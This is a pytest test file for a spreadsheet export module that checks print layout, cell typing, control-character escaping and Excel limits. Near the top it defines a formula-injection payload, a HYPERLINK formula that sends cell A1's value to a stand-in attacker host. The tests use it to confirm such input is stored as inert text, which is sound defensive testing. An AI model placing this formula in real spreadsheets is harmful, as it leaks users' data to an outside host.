"""Workbooks people print and sign (RCPT-6 hand-over sheets, ATTEND-5 summaries, EXPENSE-3
reports): set up to print, typed, and never a carrier for a formula or a broken file."""

import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from csops.documents import xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _book(sheets, **kw):
    return load_workbook(io.BytesIO(xlsx_bytes(sheets, **kw)))


def test_a_cell_that_begins_like_a_formula_is_text_and_a_number_stays_a_number():
    ws = _book({"s": [{"client": EVIL, "note": "+1 mobile", "copies": 3, "total": Decimal("1234.5")}]})["s"]
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row}
    assert cells[EVIL].data_type == "s"  # shown as the text it is, never evaluated
    assert all(c.data_type != "f" for c in cells.values())
    assert cells[3].data_type == "n" and cells[1234.5].number_format == "#,##0.00"


def test_control_characters_in_old_data_do_not_break_the_workbook():
    """A client name with ESC from before the limits (issue 14) made every workbook fail."""
    ws = _book({"s": [{"client": "华东\x1b[2J电子", "note": "a\x00b"}]}, title="T\x07")["s"]
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "华东\\x1b[2J电子" in values and "a\\x00b" in values and "T\\x07" in values


def test_a_wide_sheet_prints_landscape_one_page_wide_with_its_header_on_every_page():
    rows = [{f"column_{i}": "华东电子有限公司上海分公司" for i in range(12)} for _ in range(200)]
    ws = _book({"wide": rows}, title="月度汇总 2026-11", footer=["客户签字：__________"])["wide"]
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$2:$2"  # the header row, under the title
    assert "月度汇总 2026-11" in ws.oddHeader.center.text and "&P" in ws.oddFooter.center.text
    # widths by display width: 13 CJK characters are 26 columns, within the bounds
    assert ws.column_dimensions["A"].width == 28
    assert ws.cell(3, 1).border.left.style == "thin" and ws.cell(3, 1).alignment.wrap_text
    assert ws.cell(ws.max_row, 1).value == "客户签字：__________"


def test_a_narrow_sheet_prints_portrait_and_dates_keep_their_time():
    ws = _book({"n": [{"day": date(2026, 11, 2), "at": datetime(2026, 11, 2, 8, 55), "ok": True}]})["n"]
    assert ws.page_setup.orientation == "portrait"
    assert ws.cell(2, 2).number_format == "yyyy-mm-dd hh:mm" and ws.cell(2, 2).value == datetime(2026, 11, 2, 8, 55)
    assert ws.cell(2, 1).number_format == "yyyy-mm-dd"
    assert ws.cell(2, 3).value == "yes"  # yes/no in the reader's words, not TRUE/FALSE


def test_rcpt_6_the_hand_over_sheet_carries_a_client_controlled_formula_as_text(dept, tmp_path):
    """RCPT-6: a client's name that begins like a formula lands in the signed sheet as text."""
    cli = dept
    cli.ok("client", "add", EVIL)
    cli.ok(
        "receipt",
        "add",
        "--client",
        EVIL,
        "--shipment",
        "X1",
        "--ship-date",
        "2026-11-03",
        "--team",
        "运作一组",
        now="2026-11-03T09:00",
    )
    cli.ok("receipt", "return", "X1", "--confirm", now="2026-11-10T09:00")
    out = tmp_path / "handover.xlsx"
    cli.ok(
        "receipt", "handover", "--month", "2026-11", "--format", "xlsx", "--output", str(out), now="2026-12-15T09:00"
    )
    wb = load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    assert any(c.value == EVIL for c in cells)
    csv_out = tmp_path / "handover.csv"
    cli.ok(
        "receipt", "handover", "--month", "2026-11", "--format", "csv", "--output", str(csv_out), now="2026-12-15T09:00"
    )
    raw = csv_out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows reads UTF-8 with a BOM
    assert "'=HYPERLINK" in raw.decode("utf-8-sig")


def test_the_workbook_round_trips_its_values_names_and_print_setup_and_is_the_same_bytes_twice():
    """csops.workbook writes the XML itself (issue 20): what openpyxl reads back is what was given."""
    from datetime import time

    sheets = {
        "O'Brien & 华东 [1]": [
            {"at": datetime(2026, 11, 2, 8, 55, 30), "time": time(17, 45), "n": -3, "x": 0.25, "text": "  spaced  "},
            {"at": None, "time": None, "n": 10**12, "x": None, "text": "a\rb<c>&d"},
        ],
        "O'Brien & 华东 [2]": [],
    }
    data = xlsx_bytes(sheets, title="T & <co>", footer=["{rows} 张"], one_page_up_to=40)
    assert data == xlsx_bytes(sheets, title="T & <co>", footer=["{rows} 张"], one_page_up_to=40)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["O'Brien & 华东 _1_", "O'Brien & 华东 _2_"]
    ws = wb.worksheets[0]
    assert ws["A1"].value == "T & <co> — O'Brien & 华东 [1]" and ws["A1"].font.bold and ws["A1"].font.sz == 13
    assert [c.value for c in ws[3]] == [datetime(2026, 11, 2, 8, 55, 30), time(17, 45), -3, 0.25, "  spaced  "]
    assert [c.value for c in ws[4]] == [None, None, 10**12, None, "a\rb<c>&d"]  # \r kept (written as &#13;)
    assert ws["B3"].number_format == "hh:mm" and ws["A4"].border.bottom.style == "thin"  # an empty cell is boxed
    assert ws.freeze_panes == "A3" and ws.print_title_rows == "$2:$2"
    assert ws.page_setup.fitToHeight == 1 and ws.page_setup.paperSize == 9  # two rows: one A4 page
    assert ws.oddHeader.center.text == "T && <co> — O'Brien & 华东 [1]".replace(" & 华", " && 华")
    assert ws.cell(6, 1).value == "2 张"  # the footer below an empty row
    empty = wb.worksheets[1]  # no rows: the title, an empty header, the footer counting none
    assert [c.value for c in empty["A"]] == ["T & <co> — O'Brien & 华东 [2]", None, None, "0 张"]


def test_an_empty_book_is_still_a_workbook():
    assert load_workbook(io.BytesIO(xlsx_bytes({}))).sheetnames == ["Sheet"]


def test_what_excel_would_repair_or_refuse_is_written_as_it_accepts():
    """The limits Excel holds a workbook to (csops.workbook): characters XML cannot hold, sheet
    names equal but for case, a header past 255 characters, a cell past 32,767, whole numbers
    past 15 digits, dates before 1900-03-01, Excel's own _xHHHH_ escapes in data."""
    from datetime import date

    rows = [
        {
            "text": "坏\ufffe\ud800字" + "长" * 40_000,
            "number": 12345678901234567,
            "day": date(1899, 12, 1),
            "code": "_x0041_",
        }
    ]
    data = xlsx_bytes({"ACME": rows, "acme": rows, "'q'": rows, "History": []}, title="&" * 300)
    wb = load_workbook(io.BytesIO(data))  # a well-formed book
    assert wb.sheetnames == ["ACME", "acme~2", "q", "History_"]
    ws = wb["ACME"]
    text, number, day, code = (c.value for c in ws[3])
    assert text.startswith("坏\\ufffe\\ud800字") and len(text) == 32_767 and text.endswith("…")
    assert number == "12345678901234567" and day == "1899-12-01"  # as text, nothing rounded
    assert code == "_x005F_x0041_"  # Excel shows it as _x0041_, as typed
    header = ws.oddHeader.center.text.removesuffix("…")  # 150 ampersands written && each, cut
    assert len("&C" + header) < 255 and header and len(header) % 2 == 0  # never half of an &&
